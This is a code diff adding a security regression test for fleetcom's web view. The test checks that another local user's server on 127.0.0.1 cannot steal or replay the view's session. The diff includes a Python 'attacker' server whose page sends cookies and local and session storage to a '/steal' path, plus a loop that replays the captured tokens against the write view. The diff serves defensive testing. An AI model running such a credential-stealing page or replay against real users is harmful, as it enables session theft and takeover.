@@ -8,7 +8,8 @@ import { join, resolve } from "node:path";
 import puppeteer, { type Browser, type Page } from "puppeteer-core";
 import { Fleet, until } from "../harness/fleet.ts";
 import { fleetcomArgv, processesWhere, runFleetcom } from "../harness/helpers.ts";
-import { type SshServer, sshdAvailable, startSshServer } from "../harness/sshd.ts";
+import { canCreateUsers, createOtherUser, type OtherUser } from "../harness/other-user.ts";
+import { freePort, type SshServer, sshdAvailable, startSshServer } from "../harness/sshd.ts";
 import { shellWords, Tmux } from "../harness/tmux.ts";
 import { sha256Hex } from "../../src/text-sha256.ts";
 import { LOGIN_TOKEN_MINUTES } from "../../src/web-token.ts";
@@ -502,6 +503,94 @@ describe.skipIf(!haveChromium)("fleetcom web in chromium", () => {
     expect(login.status).toBe(200);
   });
 });
+
+// Another local user's web server on this loopback address (findings: a session cookie, kept per host
+// name and not per port, reached it and was replayed against a --write view).
+describe.skipIf(!haveChromium || !canCreateUsers())("fleetcom web and another local user's server", () => {
+  let attacker: OtherUser;
+  beforeAll(() => {
+    attacker = createOtherUser("fcweb");
+  });
+  afterAll(async () => {
+    await attacker?.remove();
+  });
+
+  test("a page another user serves on 127.0.0.1 gets no credential of the view, and nothing it got opens the --write view", async () => {
+    const id = await fleet.run('while read l; do echo "got:$l"; done');
+    const { url, origin } = await startWeb(["--write"]);
+    const { port, log } = await attackerServer(attacker);
+    const context = await browser.createBrowserContext();
+    try {
+      const page = await context.newPage();
+      await page.goto(url);
+      await page.waitForSelector(".card");
+      const session = await page.evaluate(() => localStorage.getItem("fleetcom-session"));
+      // The victim, still logged in, opens the other user's page in the same browser; its script sends back all it can read.
+      await page.goto(`http://127.0.0.1:${port}/`);
+      await until("the other user's page to report back", () => existsSync(log) && readFileSync(log, "utf8").includes('"/steal?'));
+      const seen = readFileSync(log, "utf8");
+      if (session !== null) expect(seen).not.toContain(session);
+      // Whatever it got, replayed against the view the way the page's own script reaches it.
+      const material = [...new Set(seen.match(/[\w-]{20,}/g) ?? [])];
+      const replays: string[] = [];
+      for (const value of material) {
+        const tries = { cookie: rawSocket(origin, { headers: { cookie: `fleetcom_session=${value}` } }), session: rawSocket(origin, { session: value }) };
+        for (const [how, socket] of Object.entries(tries)) {
+          if (!(await socket.opened)) continue;
+          replays.push(`${how} ${value}`);
+          socket.ws.send(JSON.stringify({ type: "send", task: id, text: "REPLAYED" }));
+        }
+      }
+      expect(replays).toEqual([]);
+      // The check itself reaches the view: the page's own session, kept where only its origin reads it, opens it.
+      expect(session).not.toBeNull();
+      expect(await rawSocket(origin, { session: session! }).opened).toBe(true);
+      await fleet.ok(["send", String(id), "after"]);
+      await until("the task's own line", async () => (await fleet.peek(id)).includes("got:after"));
+      expect(await fleet.peek(id)).not.toContain("REPLAYED");
+    } finally {
+      await context.close();
+    }
+  });
+});
+
+/**
+ * An HTTP server run as `user` on 127.0.0.1 (python3): it logs every request's path and headers, one
+ * JSON line each, and its page sends back what its script can read (cookies, this origin's storage).
+ */
+async function attackerServer(user: OtherUser): Promise<{ port: number; log: string }> {
+  const dir = join(user.shared, "attacker");
+  mkdirSync(dir, { mode: 0o700 });
+  Bun.spawnSync(["chown", `${user.uid}:${user.gid}`, dir]);
+  const log = join(dir, "requests.log");
+  const script = join(user.shared, "server.py");
+  writeFileSync(
+    script,
+    `import http.server, json, sys
+port, log = int(sys.argv[1]), sys.argv[2]
+PAGE = b"""<!doctype html><script>
+fetch('/steal?' + new URLSearchParams({ cookie: document.cookie, storage: JSON.stringify(Object.assign({}, localStorage, sessionStorage)) }));
+</script>"""
+class Logger(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        with open(log, "a") as f:
+            f.write(json.dumps({"path": self.path, "headers": dict(self.headers)}) + "\\n")
+        body = PAGE if self.path == "/" else b"ok"
+        self.send_response(200)
+        self.send_header("content-type", "text/html")
+        self.send_header("content-length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+    def log_message(self, *args):
+        pass
+http.server.ThreadingHTTPServer(("127.0.0.1", port), Logger).serve_forever()
+`,
+  );
+  const port = await freePort();
+  user.spawn(["/usr/bin/python3", script, String(port), log]);
+  await until("the other user's server to listen", async () => (await fetch(`http://127.0.0.1:${port}/ready`).catch(() => null))?.ok);
+  return { port, log };
+}
 
 /** The status an HTTP/1.1 request written as is (its Host too) gets from 127.0.0.1:port. */
 async function rawHttp(port: number, request: string): Promise<number> {
